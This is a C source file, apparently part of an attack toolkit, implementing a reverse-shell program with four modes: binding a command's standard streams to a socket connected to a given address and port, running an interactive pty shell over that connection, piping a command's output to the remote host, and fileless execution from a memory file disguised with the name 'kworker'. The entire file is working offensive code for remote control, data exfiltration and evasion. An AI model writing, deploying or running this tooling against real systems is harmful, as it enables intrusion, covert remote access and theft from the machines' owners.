/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * A program whose input and output are a connection.
 *
 *   shell connect ADDR PORT CMD…     CMD on the connection
 *   shell terminal ADDR PORT CMD…    this process on the connection, CMD on a terminal that it copies from
 *   shell pipe ADDR PORT CMD…        CMD with pipes, what it prints is sent on: what a client does
 *   shell memory CMD…                CMD's program from memory alone
 */
#include "attack.h"

#include <fcntl.h>
#include <pty.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>

static int connected(char **a)
{
	struct endpoint to = endpoint(a[0], a[1]);
	int fd = opened(to.family, SOCK_STREAM, 0);

	if (connect(fd, sockaddr(&to), to.length))
		refused("connect");
	return fd;
}

static int run_connect(char **a)
{
	int fd = connected(a);

	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execvp(a[2], a + 2);
	refused("execvp");
	return EXIT_REFUSED;
}

static void copy(int from, int to)
{
	char buffer[4096];
	ssize_t got;

	while ((got = read(from, buffer, sizeof(buffer))) > 0) {
		if (write(to, buffer, (size_t)got) < 0)
			break;
	}
}

static int run_terminal(char **a)
{
	int fd = connected(a), terminal;

	dup2(fd, 0);
	dup2(fd, 1);
	pid_t child = forkpty(&terminal, NULL, NULL, NULL);

	if (child < 0)
		refused("forkpty");
	if (!child) {
		execvp(a[2], a + 2);
		_exit(EXIT_REFUSED);
	}
	copy(terminal, 1);
	waitpid(child, NULL, 0);
	return EXIT_SENT;
}

static int run_pipe(char **a)
{
	int fd = connected(a), ends[2];

	if (pipe(ends))
		refused("pipe");
	pid_t child = fork();

	if (!child) {
		dup2(ends[1], 1);
		close(ends[0]);
		close(ends[1]);
		close(fd);
		execvp(a[2], a + 2);
		_exit(EXIT_REFUSED);
	}
	close(ends[1]);
	copy(ends[0], fd);
	waitpid(child, NULL, 0);
	return EXIT_SENT;
}

static int run_memory(char **a)
{
	int from = open(a[0], O_RDONLY), to = memfd_create("kworker", MFD_CLOEXEC);
	struct stat status;

	if (from < 0 || to < 0 || fstat(from, &status))
		refused("open");
	for (off_t at = 0; at < status.st_size;) {
		if (sendfile(to, from, &at, (size_t)(status.st_size - at)) <= 0)
			refused("sendfile");
	}
	fexecve(to, a, environ);
	refused("fexecve");
	return EXIT_REFUSED;
}

int main(int argc, char **argv)
{
	if (argc >= 5 && !strcmp(argv[1], "connect"))
		return run_connect(argv + 2);
	if (argc >= 5 && !strcmp(argv[1], "terminal"))
		return run_terminal(argv + 2);
	if (argc >= 5 && !strcmp(argv[1], "pipe"))
		return run_pipe(argv + 2);
	if (argc >= 3 && !strcmp(argv[1], "memory"))
		return run_memory(argv + 2);
	usage("shell connect|terminal|pipe ADDR PORT CMD… | shell memory CMD…");
}
